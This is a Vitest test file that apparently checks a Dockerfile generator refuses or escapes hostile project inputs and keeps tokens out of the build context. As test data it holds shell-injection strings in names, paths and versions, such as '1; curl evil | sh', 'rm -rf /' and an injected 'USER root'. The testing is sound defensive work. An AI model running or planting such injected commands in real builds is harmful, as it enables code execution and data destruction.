import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { type DockerizeOptions, dockerize } from '../dockerize/dockerize.ts';
import { isPlain, toShellLine } from '../lib/dockerfile-text.ts';

const ROOT = join(import.meta.dirname, '../..');
const SERVER = "require('http').createServer((q, r) => r.end()).listen(process.env.PORT || 3000);\n";
const LOCK = { lockfileVersion: 3, packages: {} };
const START = { scripts: { start: 'node server.js' } };
let project = '';
let printed = '';

beforeEach(async () => {
  project = await mkdtemp(join(tmpdir(), 'hostile-'));
  printed = '';
  for (const stream of [process.stdout, process.stderr]) {
    vi.spyOn(stream, 'write').mockImplementation((text) => {
      printed += text;
      return true;
    });
  }
});
afterEach(async () => {
  vi.restoreAllMocks();
  await rm(project, { recursive: true, force: true });
});

/** Runs dockerize on a project with these files: objects become JSON, and null is no file. Returns the Dockerfile. */
async function write(files: Record<string, unknown>, options: Partial<DockerizeOptions> = {}): Promise<string> {
  const all = { 'package.json': START, 'package-lock.json': LOCK, 'server.js': SERVER, ...files };
  for (const [path, content] of Object.entries(all)) {
    if (content === null) continue;
    await mkdir(join(project, dirname(path)), { recursive: true });
    await writeFile(join(project, path), typeof content === 'string' ? content : JSON.stringify(content));
  }
  const given = { directory: project, like: '02', verify: false, dryRun: false, force: false, facts: {}, given: {} };
  const directories = { root: ROOT, current: ROOT };
  await dockerize({ ...given, ...options } as DockerizeOptions, directories, new AbortController().signal);
  return readFile(join(project, 'Dockerfile'), 'utf8');
}

/** Nothing of the project is written when it is refused. */
async function expectRefusal(message: string, files: Record<string, unknown>, options?: Partial<DockerizeOptions>) {
  const error = { code: 'usage', message: expect.stringContaining(message) };
  await expect(write(files, options)).rejects.toMatchObject(error);
  expect(await readdir(project)).not.toContain('Dockerfile');
}

const HARMFUL = [
  '; id',
  '$(id)',
  '`id`',
  'a b',
  '"',
  "'",
  'a\nUSER root',
  '--call=x',
  '#x',
  'a,source=/',
  '../x',
  'a/../../x',
  '*',
  '~/x',
];
test.each(HARMFUL)('%j is not plain', (text) => expect(isPlain(text)).toBe(false));
test.each(['', './', 'src/a-b_c.js', '@scope/näme', 'x@1.0.0+1', 'build:prod', '...x'])('%j is plain', (text) =>
  expect(isPlain(text)).toBe(true),
);

describe('a workspace, whose names and paths are in RUN lines', () => {
  const member = (path: string, name: string, manager: Record<string, unknown> = {}) => ({
    'package.json': { workspaces: ['packages/*'] },
    'packages/lib/package.json': { name, main: 'dist/index.js', scripts: { build: 'tsc' } },
    [`${path}/package.json`]: { name: 'app', ...START, dependencies: { [name]: '*' } },
    [`${path}/server.js`]: SERVER,
    'server.js': null,
    ...manager,
  });
  const pnpm = { 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n", 'pnpm-workspace.yaml': 'packages: ["packages/*"]\n' };

  test('a path with a command', () => expectRefusal('"packages/x; id"', member('packages/x; id', 'lib')));
  test.each(['x; id #', '$(id)', 'x --script-shell=y'])('the name %j', async (name) => {
    await expectRefusal(JSON.stringify(name), {
      ...member('packages/app', name, pnpm),
      'package.json': { packageManager: 'pnpm@10.0.0' },
    });
  });
  test('harmless names', async () => {
    const text = await write(member('packages/app', '@x/lib'));
    expect(text).toContain('RUN npm run build --workspace packages/lib\n');
  });
});

test('a development dependency whose locked version is a command', async () => {
  const packages = { 'node_modules/ok': { version: '1; curl evil | sh', dev: true } };
  const manifest = { ...START, dependencies: { x: '1' }, devDependencies: { ok: '1' } };
  await expectRefusal('"ok@1; curl evil | sh"', {
    'package.json': manifest,
    'package-lock.json': { ...LOCK, packages },
    'server.js': `require('ok');${SERVER}`,
  });
});

test('a directory that the app writes to, and whose name is a command', async () => {
  const paths = ['; touch /x #', '$(id)', 'a\\nUSER root', '/dev/stdout', '/etc', 'good', '/app/good/in'];
  const calls = paths.map((path) => `require('fs').mkdirSync('${path}');`).join('\n');
  const text = await write({ 'server.js': calls + SERVER });
  expect(text.match(/^(RUN mkdir|VOLUME|USER).*$/gm)).toEqual([
    'RUN mkdir -p /app/good && chown -R 1000:1000 /app/good',
    'VOLUME ["/app/good"]',
    'USER 1000',
  ]);
  expect(printed).toContain('writes to $(id), which gets no volume');
  expect(printed).not.toMatch(/^USER root/m);
});

test('files with harmful names are copied with all others', async () => {
  const files = { 'a"b.js': '', 'new\nUSER root.js': '', '--from=x y.js': '' };
  const requires = Object.keys(files).map((name) => `require(${JSON.stringify(`./${name}`)});`);
  const text = await write({ ...files, 'server.js': requires.join('') + SERVER });
  expect(text.match(/^COPY .*$/gm)).toEqual(['COPY . ./', 'COPY --from=init /usr/bin/tini-static /tini']);
});

test.each(['a b.tgz', 'a,b.tgz', '$HOME.tgz'])('a file %j that the installation reads', async (name) => {
  const manifest = { ...START, dependencies: { x: `file:${name}` } };
  await expectRefusal(JSON.stringify(name), { 'package.json': manifest, [name]: '' }, { like: '04' });
});

test('an output that leads out of the project', async () => {
  const manifest = { scripts: { start: 'node ../../dist/index.js', build: 'tsc' } };
  const config = { extends: '../../../../etc/hosts', compilerOptions: { outDir: '../../dist' } };
  const files = { 'package.json': manifest, 'tsconfig.json': config, 'src/index.ts': SERVER, 'server.js': null };
  await expectRefusal('cannot be written into a Dockerfile', files);
});

test('the name of a package is a title and the id of a cache, and nothing more', async () => {
  const name = 'a" && rm -rf / #\n$(id),target=/';
  const text = await write({ 'package.json': { name, ...START, dependencies: { x: '1' } } }, { like: '04' });
  expect(text).toContain('id=a-rm--rf-id-target--npm,target=/root/.npm \\\n');
  expect(text).toMatch(/title="[\w.-]+"/);
});

test('variables and arguments keep their text', async () => {
  const start = `A='$HOME' B='say "x"' C='a\\b' node server.js 'a b' '$x' "q'"`;
  const text = await write({ 'package.json': { scripts: { start } } });
  expect(text).toContain('ENV A="\\$HOME"\nENV B="say \\"x\\""\nENV C="a\\\\b"\n');
  expect(text).toContain('CMD ["node", "server.js", "a b", "$x", "q\'"]');
});

test('a variable with a line break', () =>
  expectRefusal('The value of A', { 'package.json': { scripts: { start: "A='1\nUSER root' node server.js" } } }));

test('the shell of a CMD with migrations gets words', async () => {
  const scripts = { start: "prisma migrate deploy '; id' && node server.js 'a; id' --port=1" };
  const text = await write({ 'package.json': { scripts, dependencies: { prisma: '6' } } });
  const [, line = ''] = /^CMD (.*)$/m.exec(text) ?? [];
  expect(JSON.parse(line).at(-1)).toBe(
    "node node_modules/.bin/prisma migrate deploy '; id' && exec node server.js 'a; id' --port=1",
  );
  expect(toShellLine(['$(id)', '`id`', '$HOME'])).toBe('\\$\\(id\\) \\`id\\` \\$HOME');
});

test.each(["/a'+process.exit(0)+'", '/"', '/\\', '/ä'])('the path %j of the health check', (path) =>
  expectRefusal('is not a valid path of a URL', {}, { given: { path } }),
);

test('tokens stay out of the build context and of what is printed', async () => {
  const token = 'quiet-harbour-token';
  const text = await write({
    '.npmrc': `//r.example/:_authToken=${token}\n`,
    'sub/.npmrc': `//r.example/:_authToken=${token}\n`,
    'certs/a.key': token,
    '.env': `KEY=${token}\n`,
    // What it imports is not known: everything is copied.
    'server.js': `require(process.env.X)(require('fs').readFileSync('certs/a.key'));${SERVER}`,
  });
  const ignored = (await readFile(join(project, '.dockerignore'), 'utf8')).split('\n');
  expect(text).toContain('COPY . ./');
  expect(ignored).toEqual(expect.arrayContaining(['.npmrc', 'sub/.npmrc', '**/*.key', '**/.env']));
  expect(ignored.filter((line) => line.startsWith('!'))).toEqual([]);
  expect(printed + text).not.toContain(token);
});

test("Yarn's file with a token is left out, also where an allow-list lets it in", async () => {
  const files = {
    'package.json': { packageManager: 'yarn@4.9.0', ...START, dependencies: { x: '1' } },
    'yarn.lock': '__metadata:\n  version: 8\n',
    '.yarnrc.yml': 'nodeLinker: node-modules\nnpmAuthToken: x\n',
    '.dockerignore': '*\n!*.js\n!.yarnrc.yml\n',
  };
  await write(files);
  const text = await readFile(join(project, '.dockerignore'), 'utf8');
  expect(text.lastIndexOf('\n.yarnrc.yml\n')).toBeGreaterThan(text.indexOf('!.yarnrc.yml'));
});

describe('a package.json', () => {
  test.each(['[]', 'null', '"x"', '5'])('that is %s', (text) =>
    expectRefusal('package.json cannot be read: it is not an object', { 'package.json': text }),
  );
  test.each(['', '// x\n{}', '{'])('that is not JSON: %j', (text) =>
    expectRefusal('package.json cannot be read: ', { 'package.json': text }),
  );
  test('that is a link', async () => {
    await symlink('server.js', join(project, 'package.json'));
    await expect(
      dockerize(
        { directory: project, like: '02', verify: false, dryRun: false, force: false, facts: {}, given: {} },
        { root: ROOT, current: ROOT },
        new AbortController().signal,
      ),
    ).rejects.toMatchObject({ code: 'usage', hint: expect.stringContaining('reads no links') });
  });
});

test('a file is no directory', async () => {
  await expectRefusal('There is no directory', {}, { directory: join(ROOT, 'package.json') });
});

test.skipIf(process.getuid?.() === 0)('a directory and a file that may not be read are left out', async () => {
  await mkdir(join(project, 'database'), { mode: 0o000 });
  await writeFile(join(project, '.env.example'), 'PORT=1\n', { mode: 0o000 });
  await write({});
  expect(await readdir(project)).toContain('Dockerfile');
  await chmod(join(project, 'database'), 0o755);
});
